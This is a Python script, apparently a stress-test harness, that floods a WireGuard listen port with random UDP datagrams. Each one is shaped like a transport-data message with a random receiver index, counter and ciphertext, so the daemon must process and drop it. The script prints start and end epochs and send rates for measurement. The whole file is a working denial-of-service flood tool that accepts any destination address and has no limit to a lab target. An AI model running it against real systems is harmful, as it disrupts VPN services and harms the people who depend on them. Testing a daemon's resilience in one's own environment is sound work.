#!/usr/bin/env python3
"""Floods a WireGuard listen port with junk from a non-peer: datagrams shaped
like transport-data messages (type 4, 3 reserved zero bytes, a random receiver
index, a random 8-byte counter, random "ciphertext") that match no session, so
the daemon must read, look up and drop each one. What a stranger on the path
can send without knowing any key.

usage: flood_junk.py DST_IP DST_PORT SECONDS [--min-len N] [--max-len N]

Lengths are random between --min-len (32: header 16 + tag 16, the smallest
valid transport message) and --max-len (1452: a full 1420-byte inner packet
plus 32). 4096 datagrams are built first, then sent round-robin from one
ordinary UDP socket as fast as one core allows, for SECONDS.

Prints start_epoch=<unix time>, then "sent N datagrams … (R/s), E send errors"
and end_epoch=<unix time>.
"""
import argparse
import os
import random
import socket
import struct
import sys
import time

BATCH = 4096
CHUNK = 512


def junk(length: int) -> bytes:
    header = struct.pack("<I", 4) + os.urandom(4 + 8)
    return header + os.urandom(length - len(header))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("port", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--min-len", type=int, default=32)
    ap.add_argument("--max-len", type=int, default=1452)
    args = ap.parse_args()
    if not 32 <= args.min_len <= args.max_len <= 65000:
        ap.error("expected 32 ≤ --min-len ≤ --max-len ≤ 65000")
    rng = random.Random()
    packets = [junk(rng.randint(args.min_len, args.max_len)) for _ in range(BATCH)]
    fam = socket.AF_INET6 if ":" in args.dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.connect((args.dst, args.port))
    send = s.send
    sent = errors = nbytes = 0
    print(f"start_epoch={time.time():.3f}", flush=True)
    start = time.monotonic()
    deadline = start + args.seconds
    i = 0
    while time.monotonic() < deadline:
        for p in packets[i : i + CHUNK]:
            try:
                send(p)
                sent += 1
                nbytes += len(p)
            except OSError:  # ECONNREFUSED (port closed), ENOBUFS: keep going
                errors += 1
        i = i + CHUNK if i + CHUNK < BATCH else 0
    elapsed = time.monotonic() - start
    print(f"sent {sent} datagrams of {args.min_len}-{args.max_len} bytes ({nbytes / 1e6:.0f} MB) "
          f"in {elapsed:.1f} s ({sent / elapsed:.0f}/s), {errors} send errors")
    print(f"end_epoch={time.time():.3f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
